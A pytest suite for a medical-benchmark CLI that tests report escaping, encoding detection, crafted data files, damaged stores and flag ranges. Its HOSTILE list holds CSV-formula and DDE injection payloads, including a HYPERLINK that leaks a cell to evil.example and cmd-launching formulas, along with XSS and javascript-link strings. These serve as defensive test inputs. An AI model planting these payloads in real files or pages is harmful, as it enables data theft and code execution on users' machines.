"""Crafted files, stores and flags, written here in tmp_path: each attack ends in a one-line error naming
the file or flag (exit 2, no traceback, the store unchanged), or in output that shows hostile text as
text: csv cells that no spreadsheet reads as a formula, Markdown in which nothing renders or links."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import html
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import typer
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from grandrounds.benchmarks.readers.decoding import GB18030_DOUBT_LIMIT, gb18030_doubt, read_text
from grandrounds.benchmarks.readers.json_docs import read_json
from grandrounds.benchmarks.readers.lines import read_csv, read_jsonl
from grandrounds.cli import main as cli
from grandrounds.core.display import safe_text
from grandrounds.core.errors import DataError
from grandrounds.providers.base import ProviderError
from grandrounds.reports import build_report
from grandrounds.reports.tabular import FORMULA_LEADS, csv_cell, md_cell
from grandrounds.run.config import RunConfig, build_benchmark
from grandrounds.run.runner import run
from grandrounds.store import Store
from grandrounds.store.connection import SCHEMA_VERSION, StoreBase
from grandrounds.store.migrations import MIGRATIONS
from grandrounds.testing import LoopbackServer
from tests.conftest import shared_file

#: Text a model, a data file or a server could send, aimed at spreadsheets and Markdown renderers.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "| forged | cells |\n|---|---|\n| x | y |",
    "[click](javascript:alert(1)) ![pixel](http://evil.example/t.png) <http://evil.example>",
    "`code` *bold* __strong__ _it_ # heading ~~gone~~ &lt;b&gt; &#124; back\\slash {x}(y)!",
    "line one\r\nline two\rline three\u2028four",
]


def grandrounds(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, *args: str
) -> tuple[int, str, str]:
    """Run the real entry point (``grandrounds.cli.main.main``) in this process: exit code, stdout, stderr."""
    monkeypatch.setattr(sys, "argv", ["grandrounds", *args])
    monkeypatch.setenv("COLUMNS", "200")
    with pytest.raises(SystemExit) as e:
        cli.main()
    out = capsys.readouterr()
    code = e.value.code
    return (code if isinstance(code, int) else (0 if code is None else 1)), out.out, out.err


def one_line_error(err: str) -> str:
    """The single ``error: ...`` line of a failed command; nothing else but a run's progress line."""
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert "Traceback" not in err, err
    errors = [ln for ln in lines if ln.startswith("error: ")]
    assert len(errors) == 1 and all(ln in errors or "calls/s" in ln for ln in lines), err
    return errors[0]


def usage_error(err: str) -> str:
    """A click usage error as one flat string (the panel's borders and line breaks removed)."""
    return " ".join(re.sub(r"[│╭╮╰╯─]", " ", err).split())


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def medqa_line(question: str, answer: str = "A") -> str:
    options = {"A": "yes", "B": "no", "C": "maybe", "D": "never"}
    return json.dumps(
        {"question": question, "options": options, "answer_idx": answer}, ensure_ascii=False
    )


def scripted_store(path: Path) -> Path:
    """A store holding one real run (the bundled demo exam, answered by a scripted model)."""
    with Store(path) as st:
        asyncio.run(run(st, RunConfig(benchmark="demo", model="scripted/always-a")))
    return path


# ---- 1. reports: csv cells are never formulas, Markdown never renders ---------------------------------------


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_csv_cell_neutralises_every_formula_lead(lead: str) -> None:
    if (
        lead == "\r"
    ):  # a control character is shown escaped (no raw CR in a cell), so nothing opens a formula
        assert csv_cell(f"{lead}1+1") == "\\x0d1+1"
    else:
        assert csv_cell(f"{lead}1+1") == f"'{lead}1+1"
    if lead in "=+-@":  # white space before the lead does not hide it
        assert csv_cell(f" \n{lead}1+1") == f"' \n{lead}1+1"


def test_csv_cell_keeps_numbers_numbers_and_plain_text_plain() -> None:
    assert csv_cell(-2) == -2 and csv_cell(-0.25) == -0.25 and csv_cell(3) == 3
    assert csv_cell("-2") == "'-2"  # a string is text even when it looks like a number
    assert csv_cell("plain answer: A") == "plain answer: A" and csv_cell("a=b") == "a=b"
    assert csv_cell(None) is None and csv_cell(True) is True


@pytest.fixture
def hostile_store(tmp_path: Path) -> Store:
    """A real MedMCQA-format run where sample ids, subjects, answers and an error body are hostile."""
    data = tmp_path / "dev.json"
    records = []
    for i, text in enumerate(HOSTILE):
        records.append(
            {
                "id": text,
                "question": f"Question {i}?",
                "opa": "one",
                "opb": "two",
                "opc": "three",
                "opd": "four",
                "cop": 1,
                "subject_name": HOSTILE[-1 - i],
                "choice_type": "single",
            }
        )
    data.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    order = {f"Question {i}?": i for i in range(len(HOSTILE))}

    def script(req):
        i = next(v for k, v in order.items() if k in req.messages[-1].content)
        if i == 1:
            return ProviderError(
                f"HTTP 500: {HOSTILE[0]}", retryable=False
            )  # an error body echoing hostile text
        return f"{HOSTILE[i]}\nAnswer: A"

    st = Store(tmp_path / "s.db")
    asyncio.run(
        run(
            st,
            RunConfig(
                benchmark="medmcqa",
                model="scripted/model-x",
                data=data,
                provider_options={"script": script},
            ),
        )
    )
    yield st
    st.close()


def test_csv_report_writes_hostile_text_as_text(hostile_store: Store, tmp_path: Path) -> None:
    paths = build_report(hostile_store, "csv", tmp_path / "r.csv")
    cells = []
    for p in paths:
        with open(p, encoding="utf-8", newline="") as f:
            cells += [c for row in csv.reader(f) for c in row]
    for c in cells:
        if c.lstrip(" \t\r\n").startswith(FORMULA_LEADS):
            float(c)  # only a real number may open with a formula character (none here is negative)
    with open(paths[1], encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE)
    shown = [
        safe_text(h) for h in HOSTILE
    ]  # control characters shown escaped (CR LF a line end), then neutralised
    expected_ids = {
        ("'" + h) if h.lstrip(" \t\r\n").startswith(FORMULA_LEADS) else h for h in shown
    }
    assert {r["sample_id"] for r in rows} == expected_ids
    assert any(
        r["error"].endswith("HTTP 500: " + HOSTILE[0]) and r["error"][0].isalpha() for r in rows
    )
    answers = {r["answer"] for r in rows}
    assert "'" + HOSTILE[0] + "\nAnswer: A" in answers  # neutralised, otherwise whole
    assert HOSTILE[7] + "\nAnswer: A" in answers  # no formula lead: as the model wrote it


def _tables(rendered: str) -> list[list[list[str]]]:
    """Tables of rendered HTML as rows of cell texts (entities decoded)."""
    out = []
    for table in re.findall(r"<table>(.*?)</table>", rendered, re.S):
        rows = [
            [html.unescape(c) for c in re.findall(r"<t[hd](?: [^>]*)?>(.*?)</t[hd]>", tr, re.S)]
            for tr in re.findall(r"<tr>(.*?)</tr>", table, re.S)
        ]
        out.append(rows)
    return out


def _as_cell(text: str) -> str:
    """What a Markdown cell can show of ``text``: one line, outer white space trimmed."""
    return " ".join(text.replace("\r\n", "\n").splitlines()).strip()


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_md_cell_renders_as_exactly_its_text(text: str) -> None:
    md = MarkdownIt("commonmark").enable("table")  # commonmark passes raw HTML through: a real test
    rendered = md.render(f"| a | b |\n|---|---|\n| {md_cell(text)} | end |\n")
    [[header, row]] = _tables(rendered)
    assert header == ["a", "b"] and row == [_as_cell(text), "end"]
    for tag in ("<script", "<img", "<a ", "<strong", "<em", "<code", "<h1", "<s>", "<del"):
        assert tag not in rendered


def test_markdown_report_renders_no_markup_from_models_or_data(
    hostile_store: Store, tmp_path: Path
) -> None:
    [path] = build_report(hostile_store, "md", tmp_path / "r.md")
    rendered = MarkdownIt("commonmark").enable("table").render(path.read_text(encoding="utf-8"))
    for tag in ("<script", "<img", "<a ", "<strong", "<em", "<code", "<h1", "<del"):
        assert tag not in rendered
    board, samples, breakdowns = _tables(rendered)
    for table in (board, samples, breakdowns):
        assert len({len(r) for r in table}) == 1, "a cell was split or merged"
    cols = samples[0]
    assert cols[:2] == ["benchmark", "sample_id"] and cols[-1] == "answer"
    assert sorted(r[1] for r in samples[1:]) == sorted(_as_cell(h) for h in HOSTILE)
    answers = {r[cols.index("answer")] for r in samples[1:]}
    assert _as_cell(HOSTILE[7] + "\nAnswer: A") in answers
    assert any(
        r[cols.index("error")].endswith(_as_cell("HTTP 500: " + HOSTILE[0])) for r in samples[1:]
    )
    assert {_as_cell(h) for h in HOSTILE} <= {
        r[breakdowns[0].index("key")] for r in breakdowns[1:]
    }  # subjects


# ---- 2. encodings --------------------------------------------------------------------------------------------


def test_windows_1252_file_is_refused_then_read_with_encoding(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    data = tmp_path / "exam.jsonl"
    data.write_bytes(
        (
            medqa_line("Vertigo, tinnitus: Ménière disease?")
            + "\n"
            + medqa_line("Crème or gel?")
            + "\n"
        ).encode("cp1252")
    )
    db = tmp_path / "s.db"
    code, _, err = grandrounds(
        capsys,
        monkeypatch,
        "run",
        "medqa",
        "--data",
        str(data),
        "--model",
        "scripted/a",
        "--store",
        str(db),
    )
    line = one_line_error(err)
    assert code == 2
    assert line.startswith(f"error: {data}, line 1: cannot decode as UTF-8 (byte 0xe9 at offset ")
    assert "GB18030 would be a guess" in line and "--encoding" in line
    code, _, err = grandrounds(
        capsys,
        monkeypatch,
        "run",
        "medqa",
        "--data",
        str(data),
        "--encoding",
        "cp1252",
        "--model",
        "scripted/a",
        "--store",
        str(db),
    )
    assert code == 0, err
    con = sqlite3.connect(db)
    stored = json.dumps(
        [json.loads(r[0]) for r in con.execute("SELECT sample_json FROM samples")],
        ensure_ascii=False,
    )
    con.close()
    assert "Ménière disease" in stored and "Crème or gel" in stored


def test_gb18030_chinese_file_still_loads_without_a_flag(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    data = tmp_path / "exam.jsonl"
    text = (
        medqa_line("患者，男，45岁，发热3天，咳嗽。最可能的诊断？")
        + "\n"
        + medqa_line("下列哪项是心力衰竭的典型体征？", "B")
        + "\n"
    )
    data.write_bytes(text.encode("gb18030"))
    code, _, err = grandrounds(
        capsys,
        monkeypatch,
        "run",
        "medqa",
        "--data",
        str(data),
        "--model",
        "scripted/a",
        "--store",
        str(tmp_path / "s.db"),
    )
    assert code == 0, err
    samples = build_benchmark("medqa", {}).load(data)
    assert samples[0].metadata["question"].startswith("患者，男，45岁")


def test_real_chinese_data_reencoded_as_gb18030_loads_the_same(tmp_path: Path) -> None:
    """LLMEval-Med's dataset (Chinese) as GB18030 gives the samples its UTF-8 original gives."""
    src = shared_file("llmeval-med", "dataset.json")
    bench = build_benchmark("llmeval-med", {})
    copy = tmp_path / "dataset.json"
    copy.write_bytes(src.read_text(encoding="utf-8").encode("gb18030"))
    assert bench.load(copy) == bench.load(src)


def test_shared_data_files_decode_exactly_as_before() -> None:
    """Every text file of ../shared/data (CMB and LLMEval-Med in Chinese included) reads as its UTF-8."""
    root = shared_file("cmb").parent
    files = [
        p
        for p in sorted(root.rglob("*"))
        if p.suffix in (".json", ".jsonl", ".csv") and p.is_file()
    ]
    assert len(files) >= 15
    for p in files:
        assert read_text(p) == p.read_bytes().decode("utf-8-sig"), p


def test_encoding_rule_separates_real_chinese_from_misread_latin_text(tmp_path: Path) -> None:
    """The GB18030 rule on real text: every CMB and LLMEval-Med record as GB18030 is accepted; every
    Latin-script HealthBench prompt as Windows-1252 that even decodes as GB18030 is refused."""
    chinese = [
        json.dumps(r, ensure_ascii=False)
        for r in json.loads(shared_file("cmb", "CMB-test-qa.json").read_text(encoding="utf-8"))
    ]
    for recs in json.loads(
        shared_file("llmeval-med", "dataset.json").read_text(encoding="utf-8")
    ).values():
        chinese += [json.dumps(r, ensure_ascii=False) for r in recs]
    assert len(chinese) > 700
    worst = max(gb18030_doubt(t.encode("gb18030").decode("gb18030")) for t in chinese)
    assert worst < GB18030_DOUBT_LIMIT / 2  # measured 0.113

    latin = []
    for line in (
        shared_file("healthbench", "healthbench_500.jsonl")
        .read_text(encoding="utf-8")
        .strip()
        .split("\n")
    ):
        text = "\n".join(m["content"] for m in json.loads(line)["prompt"])
        if re.search(r"[À-ÿ]", text):
            latin.append(text.encode("cp1252", errors="ignore"))
    decodable = []
    for raw in latin:
        try:
            raw.decode("gb18030")
        except UnicodeDecodeError:
            continue
        decodable.append(raw)
    assert len(latin) > 40 and len(decodable) >= 3  # measured 55 and 6
    for i, raw in enumerate(decodable):
        assert gb18030_doubt(raw.decode("gb18030")) > 2 * GB18030_DOUBT_LIMIT
        path = tmp_path / f"latin{i}.txt"
        path.write_bytes(raw)
        with pytest.raises(DataError, match="--encoding"):
            read_text(path)


@pytest.mark.parametrize("name", ["klingon", "base64", "rot13"])
def test_encoding_flag_must_name_a_text_codec(tmp_path: Path, name: str) -> None:
    r = CliRunner().invoke(
        cli.app,
        ["run", "medqa", "--encoding", name, "--store", str(tmp_path / "s.db")],
        env={"COLUMNS": "200"},
    )
    assert r.exit_code == 2 and "Invalid value for '--encoding'" in usage_error(r.output)
    assert not (tmp_path / "s.db").exists()


# ---- 3. crafted files: one line naming the file and record ------------------------------------------------------


def _crafted_medqa(tmp_path: Path, kind: str) -> tuple[Path, str]:
    """A MedQA --data path of a hostile kind, and what its error must say."""
    if kind == "deep-json":
        p = tmp_path / "deep.jsonl"
        p.write_text(
            medqa_line("fine?") + "\n" + "[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8"
        )
        return p, f"{p}, line 2: JSON nested too deeply"
    if kind == "huge-integer":
        p = tmp_path / "int.jsonl"
        p.write_text(
            '{"question": "q", "options": {"A": "a", "B": "b"}, "answer_idx": '
            + "9" * 5000
            + "}\n",
            encoding="utf-8",
        )
        return p, f"{p}, line 1: invalid JSON"
    if kind == "directory":
        root = tmp_path / "medqa"
        (root / "phrases_no_exclude_test.jsonl").mkdir(parents=True)
        return (
            root,
            f"{root / 'phrases_no_exclude_test.jsonl'}: is a directory where a file is expected",
        )
    if kind == "fifo":
        p = tmp_path / "pipe.jsonl"
        os.mkfifo(p)  # reading it would block forever
        return p, f"{p}: is not a regular file"
    raise AssertionError(kind)


@pytest.mark.parametrize("kind", ["deep-json", "huge-integer", "directory", "fifo"])
def test_crafted_data_file_is_one_line_error(
    tmp_path: Path, capsys, monkeypatch, kind: str
) -> None:
    if kind == "fifo" and not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    db = scripted_store(tmp_path / "s.db")
    before = digest(db)
    data, needle = _crafted_medqa(tmp_path, kind)
    code, _, err = grandrounds(
        capsys,
        monkeypatch,
        "run",
        "medqa",
        "--data",
        str(data),
        "--model",
        "scripted/a",
        "--store",
        str(db),
    )
    assert f"error: {needle}" in err
    assert code == 2
    assert needle in one_line_error(err)
    assert digest(db) == before


def test_deeply_nested_whole_file_json(tmp_path: Path) -> None:
    p = tmp_path / "d.json"
    p.write_text('{"a": ' + "[" * 50_000 + "]" * 50_000 + "}", encoding="utf-8")
    with pytest.raises(DataError, match="nested too deeply") as e:
        read_json(p)
    assert e.value.path == str(p)


def test_csv_cell_over_the_field_limit(tmp_path: Path, capsys, monkeypatch) -> None:
    columns = (
        "Row Number",
        "Calculator ID",
        "Calculator Name",
        "Category",
        "Output Type",
        "Note ID",
        "Note Type",
        "Patient Note",
        "Question",
        "Relevant Entities",
        "Ground Truth Answer",
        "Lower Limit",
        "Upper Limit",
    )
    p = tmp_path / "test_data.csv"
    with open(p, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(columns)
        w.writerow(
            [
                "1",
                "2",
                "calc",
                "lab",
                "decimal",
                "n1",
                "note",
                "x" * 200_000,
                "q?",
                "{}",
                "1",
                "1",
                "1",
            ]
        )
    with pytest.raises(DataError) as e:
        list(read_csv(p, columns))
    assert (
        str(e.value)
        == f"{p}, line 2: a cell is longer than the CSV reader's limit of 131,072 characters"
    )
    code, _, err = grandrounds(
        capsys,
        monkeypatch,
        "run",
        "medcalc-bench",
        "--data",
        str(p),
        "--model",
        "scripted/a",
        "--store",
        str(tmp_path / "s.db"),
    )
    assert code == 2 and str(e.value) in one_line_error(err)
    header = tmp_path / "h.csv"
    header.write_text("a," + "h" * 200_000 + "\n1,2\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"line 1: a cell is longer"):
        read_csv(header, ["a"])


def test_jsonl_readers_report_the_record_of_a_deep_line(tmp_path: Path) -> None:
    p = tmp_path / "d.jsonl"
    p.write_text(
        medqa_line("a") + "\n\n" + '{"q": ' + "{" * 5000 + "}" * 5000 + "}\n", encoding="utf-8"
    )
    with pytest.raises(DataError) as e:
        read_jsonl(p)
    assert e.value.where == 3


# ---- 3. crafted stores and a full disk ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["runs"],
        ["leaderboard"],
        ["report", "--format", "json", "--out", "OUT"],
        ["run", "demo", "--model", "scripted/a"],
    ],
)
@pytest.mark.parametrize("kind", ["text", "other-sqlite", "damaged", "directory"])
def test_unusable_store_file_is_one_line_error(
    tmp_path: Path, capsys, monkeypatch, kind: str, command: list[str]
) -> None:
    store = tmp_path / "s.db"
    if kind == "text":
        store.write_text("results,model\n0.9,gpt\n" * 200, encoding="utf-8")
        needle = "not an SQLite database"
    elif kind == "other-sqlite":
        con = sqlite3.connect(store)
        con.execute("CREATE TABLE contacts (name TEXT)")
        con.commit()
        con.close()
        needle = "an SQLite database but not a grandrounds store (its tables: contacts)"
    elif kind == "damaged":
        raw = bytearray(scripted_store(store).read_bytes())
        size = int.from_bytes(raw[16:18], "big")
        raw[size:] = b"\xa5" * (
            len(raw) - size
        )  # every page but the first (the schema) overwritten
        store.write_bytes(bytes(raw))
        needle = "damaged (SQLite: database disk image is malformed)"
    else:
        store.mkdir()
        needle = "is a directory, not a store file"
    before = digest(store) if store.is_file() else None
    args = [a.replace("OUT", str(tmp_path / "r.json")) for a in command]
    code, _, err = grandrounds(capsys, monkeypatch, *args, "--store", str(store))
    assert code == 2
    line = one_line_error(err)
    assert line.startswith(f"error: {store}: ") and needle in line
    if before is not None:
        assert digest(store) == before


def test_full_disk_is_one_line_error_and_the_run_resumes(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    """SQLite's max_page_count stands in for a full disk (same error: SQLITE_FULL). It holds per
    connection, so it is set on each connection that writes (the store's and, under write-behind,
    its writer's)."""
    data = shared_file("medqa", "phrases_no_exclude_test.jsonl")
    db = tmp_path / "s.db"
    setup = StoreBase._setup_connection

    def tiny_disk(self: StoreBase, con: sqlite3.Connection) -> None:
        setup(self, con)
        pages = con.execute("PRAGMA page_count").fetchone()[0]
        con.execute(f"PRAGMA max_page_count = {max(pages, 40) + 30}")

    args = (
        "run",
        "medqa",
        "--data",
        str(data),
        "--limit",
        "300",
        "--model",
        "scripted/a",
        "--store",
        str(db),
    )
    with monkeypatch.context() as m:
        m.setattr(StoreBase, "_setup_connection", tiny_disk)
        code, _, err = grandrounds(capsys, m, *args)
    assert code == 2
    line = one_line_error(err)
    assert (
        line.startswith(f"error: {db}: the disk is full")
        and "run the same command again to resume" in line
    )
    con = sqlite3.connect(db)
    assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    con.close()
    code, out, err = grandrounds(capsys, monkeypatch, *args)
    assert code == 0, err
    with Store(db, readonly=True) as st:
        [r] = st.runs()
        assert len(st.answers(r.id)) == 300


# ---- 3. numeric flags --------------------------------------------------------------------------------------------


def _numeric_options() -> list[tuple[str, str, object, object]]:
    """(command, flag, min, max) of every int or float option of every command."""
    group = typer.main.get_command(cli.app)
    out = []
    for name, command in sorted(group.commands.items()):
        for p in command.params:
            if p.param_type_name == "option" and _numeric(p):
                lo, hi = _bounds(p)
                out.append((name, p.opts[-1] if p.opts[-1].startswith("--") else p.opts[0], lo, hi))
    return out


def _numeric(p: Any) -> bool:
    """An int or float option: by its click type (typer < 0.29, as pinned) or its annotation (0.29)."""
    descriptor = getattr(p, "type_descriptor", None)
    if descriptor is not None:
        return descriptor.annotation in (int, float)
    return type(p.type).__name__ in ("IntParamType", "FloatParamType", "IntRange", "FloatRange")


def _bounds(p: Any) -> tuple[object, object]:
    """An option's range: on its click type (typer < 0.29) or on the option itself (0.29)."""
    return getattr(p, "min", getattr(p.type, "min", None)), getattr(
        p, "max", getattr(p.type, "max", None)
    )


def test_every_numeric_flag_declares_its_range() -> None:
    unbounded = [f"{c} {f}" for c, f, lo, hi in _numeric_options() if lo is None and hi is None]
    assert not unbounded, f"numeric flags without a range: {', '.join(unbounded)}"


def _out_of_range() -> list[tuple[str, str, str]]:
    cases = []
    for command, flag, lo, hi in _numeric_options():
        if lo is not None:
            cases.append((command, flag, str(lo - 1)))
        if hi is not None:
            cases.append((command, flag, str(hi + 1)))
    return cases


@pytest.mark.parametrize("command,flag,value", _out_of_range())
def test_numeric_flag_outside_its_range_is_refused_before_anything_runs(
    tmp_path: Path, command: str, flag: str, value: str
) -> None:
    group = typer.main.get_command(cli.app)
    takes_store = any("--store" in p.opts for p in group.commands[command].params)
    store = ["--store", str(tmp_path / "s.db")] if takes_store else []
    r = CliRunner().invoke(cli.app, [command, flag, value, *store], env={"COLUMNS": "200"})
    assert r.exit_code == 2, r.output
    assert f"Invalid value for '{flag}'" in usage_error(r.output)
    assert not (tmp_path / "s.db").exists()


@pytest.mark.parametrize("flag", ["--concurrency", "--limit"])
def test_negative_concurrency_and_limit_are_refused(tmp_path: Path, flag: str) -> None:
    r = CliRunner().invoke(
        cli.app,
        ["run", "demo", "--model", "scripted/a", flag, "-1", "--store", str(tmp_path / "s.db")],
        env={"COLUMNS": "200"},
    )
    # click's wording (typer < 0.29, as pinned) or pydantic's (typer 0.29)
    refused = (
        f"Invalid value for '{flag}': -1 is not in the range x>=1",
        f"Invalid value for '{flag}': Input should be greater than or equal to 1",
    )
    assert r.exit_code == 2 and any(w in usage_error(r.output) for w in refused), r.output
    assert not (tmp_path / "s.db").exists()


# ---- 4. the store: schema version first, read commands read-only ---------------------------------------------------


def test_store_from_a_newer_schema_is_refused_before_data_or_calls(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    db = scripted_store(tmp_path / "s.db")
    con = sqlite3.connect(db)
    con.execute("INSERT INTO schema_migrations VALUES (?, 'later')", (SCHEMA_VERSION + 1,))
    con.commit()
    con.close()
    before = digest(db)
    missing = tmp_path / "not-there.jsonl"  # were the data read first, this would be the error
    with LoopbackServer(lambda body: "Answer: A") as srv:
        code, _, err = grandrounds(
            capsys,
            monkeypatch,
            "run",
            "medqa",
            "--data",
            str(missing),
            "--model",
            "openai/m",
            "--base-url",
            srv.base_url,
            "--store",
            str(db),
        )
        assert srv.stats.requests == 0
    assert code == 2
    line = one_line_error(err)
    assert line.startswith(
        f"error: {db}: store schema version {SCHEMA_VERSION + 1} is newer than this grandrounds understands (version {SCHEMA_VERSION})"
    )
    assert digest(db) == before
    code, _, err = grandrounds(capsys, monkeypatch, "runs", "--store", str(db))
    assert code == 2 and f"schema version {SCHEMA_VERSION + 1}" in one_line_error(err)


def test_older_store_is_upgraded_when_a_read_command_opens_it(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    db = tmp_path / "old.db"
    con = sqlite3.connect(db)
    con.execute("CREATE TABLE schema_migrations (version INTEGER PRIMARY KEY, applied_at TEXT)")
    for version, sql in MIGRATIONS[:-1]:
        con.executescript(sql)
        con.execute("INSERT INTO schema_migrations VALUES (?, 'then')", (version,))
    con.commit()
    con.close()
    code, _, err = grandrounds(capsys, monkeypatch, "runs", "--store", str(db))
    assert code == 0 and "no runs in" in err
    con = sqlite3.connect(db)
    assert con.execute("SELECT MAX(version) FROM schema_migrations").fetchone()[0] == SCHEMA_VERSION
    con.close()


def test_read_commands_leave_the_store_file_untouched(tmp_path: Path, capsys, monkeypatch) -> None:
    db = scripted_store(tmp_path / "s.db")
    with Store(db) as st:
        [run_id] = [r.id for r in st.runs()]
    before, mtime = digest(db), db.stat().st_mtime_ns
    for args in (
        ["runs"],
        ["leaderboard"],
        ["report", "--format", "md", "--out", str(tmp_path / "r.md")],
        ["compare", run_id, "scripted/other"],
    ):
        code, _, err = grandrounds(capsys, monkeypatch, *args, "--store", str(db))
        assert code in (0, 1), (args, err)  # compare: 1 = nothing to compare with
    assert digest(db) == before and db.stat().st_mtime_ns == mtime
    wal = db.with_name(
        db.name + "-wal"
    )  # a read-only reader of a WAL store may create it, never write it
    assert not wal.exists() or wal.stat().st_size == 0


def _make_read_only(paths: list[Path]) -> list[list[str]]:
    """Make files and folders unwritable; the commands that undo it. Root ignores permissions, so
    as root the immutable attribute stands in (ext4 and most Linux file systems)."""
    if os.geteuid() != 0:
        for p in paths:
            p.chmod(0o555 if p.is_dir() else 0o444)
        return [["chmod", "755" if p.is_dir() else "644", str(p)] for p in paths]
    undo = []
    for p in paths:
        if subprocess.run(["chattr", "+i", str(p)], capture_output=True).returncode != 0:
            for cmd in undo:
                subprocess.run(cmd, check=False)
            pytest.skip(
                "running as root where the immutable attribute cannot be set: nothing here is read-only"
            )
        undo.insert(0, ["chattr", "-i", str(p)])
    return undo


def test_store_on_read_only_media_can_be_listed_and_reported(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    folder = tmp_path / "media"
    folder.mkdir()
    db = scripted_store(folder / "s.db")
    with Store(db) as st:
        [run_id] = [r.id for r in st.runs()]
    assert sorted(p.name for p in folder.iterdir()) == ["s.db"]  # closed cleanly: no -wal, no -shm
    before = digest(db)
    undo = _make_read_only([db, folder])
    try:
        with pytest.raises(OSError):
            (folder / "probe").write_text("x")  # really read-only
        with pytest.raises(
            sqlite3.OperationalError, match="unable to open"
        ):  # what plain mode=ro meets here
            sqlite3.connect(f"{db.as_uri()}?mode=ro", uri=True).execute(
                "SELECT COUNT(*) FROM sqlite_master"
            )
        code, out, err = grandrounds(capsys, monkeypatch, "runs", "--store", str(db))
        assert code == 0, err
        assert run_id in out
        code, out, err = grandrounds(capsys, monkeypatch, "leaderboard", "--store", str(db))
        assert code == 0 and "scripted/always-a" in out, err
        code, _, err = grandrounds(
            capsys,
            monkeypatch,
            "report",
            "--format",
            "json",
            "--out",
            str(tmp_path / "r.json"),
            "--store",
            str(db),
        )
        assert code == 0, err
        assert (
            json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["leaderboard"][0][
                "run_id"
            ]
            == run_id
        )
        code, _, err = grandrounds(
            capsys, monkeypatch, "run", "demo", "--model", "scripted/b", "--store", str(db)
        )
        assert code == 2 and one_line_error(err).startswith(f"error: {db}: ")
    finally:
        for cmd in undo:
            subprocess.run(cmd, check=False)
    assert digest(db) == before


@pytest.mark.parametrize(
    "args",
    [
        ["runs"],
        ["leaderboard"],
        ["compare", "a", "b"],
        ["report", "--out", "r.html"],
        ["view"],
        ["review-queue"],
        ["submission", "--run", "x", "--out", "o"],
        ["regrade", "--run", "x"],
    ],
)
def test_read_commands_refuse_a_store_that_does_not_exist(
    tmp_path: Path, capsys, monkeypatch, args: list[str]
) -> None:
    db = tmp_path / "typo.db"
    code, _, err = grandrounds(capsys, monkeypatch, *args, "--store", str(db))
    assert code == 2 and f"no store at {db}" in one_line_error(err)
    assert not db.exists()


# ---- 5. flags: help text everywhere, no <bool> -----------------------------------------------------------------


def test_every_option_of_every_command_has_help() -> None:
    group = typer.main.get_command(cli.app)
    missing = [
        f"{name} {p.opts[-1]}"
        for name, command in sorted(group.commands.items())
        for p in command.params
        if p.param_type_name == "option" and not (p.help or "").strip()
    ]
    assert not missing, f"options without help: {', '.join(missing)}"


def test_no_help_page_shows_bool_beside_a_flag() -> None:
    group = typer.main.get_command(cli.app)
    for args in ([], *([name] for name in sorted(group.commands))):
        r = CliRunner().invoke(cli.app, [*args, "--help"], env={"COLUMNS": "200"})
        assert r.exit_code == 0, r.output
        assert "<bool>" not in r.output, args
        assert "--help" in r.output
